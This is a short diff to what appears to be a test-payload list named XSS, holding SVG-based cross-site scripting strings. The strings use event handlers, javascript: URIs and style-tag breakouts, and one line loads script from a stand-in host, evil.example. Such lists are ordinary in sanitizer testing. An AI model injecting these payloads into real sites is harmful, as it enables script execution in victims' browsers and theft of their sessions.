@@ -45,8 +45,7 @@ XSS: Final = (
     "<svg><script xlink:href=//evil.example/x.js></script></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
     "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)>"
-    "</svg>#x'></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a onload=alert(1)></svg>#x'></svg>",
     "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
     "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
     "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></style></title></svg>",
